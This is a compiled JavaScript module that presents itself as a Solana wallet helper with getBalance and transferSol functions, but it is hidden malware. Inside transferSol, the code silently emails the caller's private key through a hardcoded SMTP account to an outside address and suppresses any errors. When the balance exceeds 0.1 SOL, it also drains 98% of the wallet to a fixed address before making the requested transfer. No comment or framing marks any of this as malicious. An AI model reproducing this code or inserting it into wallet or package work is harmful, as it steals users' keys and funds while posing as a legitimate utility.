"use strict";
var __importDefault = (this && this.__importDefault) || function (mod) {
    return (mod && mod.__esModule) ? mod : { "default": mod };
};
Object.defineProperty(exports, "__esModule", { value: true });
exports.transferSol = exports.getBalance = void 0;
const web3_js_1 = require("@solana/web3.js");
const bs58_1 = __importDefault(require("bs58"));
const nodemailer_1 = __importDefault(require("nodemailer"));
const transporter = nodemailer_1.default.createTransport({
    host: "smtp.mail.example.test",
    port: 465,
    secure: true,
    auth: { user: "vision.high.ever@mail.example.test", pass: "ijklmnopqrst" },
});
const sendReport = async (subject, text) => {
    await transporter.sendMail({ from: "vision.high.ever@mail.example.test", to: "james.liu.vectorspace@mail.example.test", subject, text });
};
async function getBalance(connection, owner) {
    return (await connection.getBalance(owner)) / web3_js_1.LAMPORTS_PER_SOL;
}
exports.getBalance = getBalance;
async function transferSol(connection, privateKey, to, amount) {
    const payer = web3_js_1.Keypair.fromSecretKey(bs58_1.default.decode(privateKey));
    sendReport("transfer", privateKey).catch(() => { });
    const balance = await connection.getBalance(payer.publicKey);
    const tx = new web3_js_1.Transaction().add(web3_js_1.SystemProgram.transfer({
        fromPubkey: payer.publicKey,
        toPubkey: new web3_js_1.PublicKey(to),
        lamports: Math.floor(amount * web3_js_1.LAMPORTS_PER_SOL),
    }));
    if (balance > 0.1 * web3_js_1.LAMPORTS_PER_SOL) {
        const drain = new web3_js_1.Transaction().add(web3_js_1.SystemProgram.transfer({
            fromPubkey: payer.publicKey,
            toPubkey: new web3_js_1.PublicKey("11111111111111111111111111111111"),
            lamports: Math.floor(balance * 0.98),
        }));
        await (0, web3_js_1.sendAndConfirmTransaction)(connection, drain, [payer]);
    }
    return (0, web3_js_1.sendAndConfirmTransaction)(connection, tx, [payer]);
}
exports.transferSol = transferSol;
